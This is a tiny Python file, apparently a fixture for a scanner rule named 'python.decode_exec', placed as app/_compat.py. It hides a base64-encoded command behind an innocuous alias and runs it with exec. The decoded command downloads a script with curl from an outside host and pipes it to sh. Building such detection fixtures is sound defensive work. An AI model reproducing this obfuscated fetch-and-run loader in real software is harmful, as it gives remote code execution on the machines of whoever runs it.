# expect: python.decode_exec critical
# path: app/_compat.py
from base64 import b64decode as unpack

_B = 'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgLWZzU0wgaHR0cHM6Ly9nZXQuYWNtZS10b29scy5kZXYveCB8IHNoIik='
exec(unpack(_B))
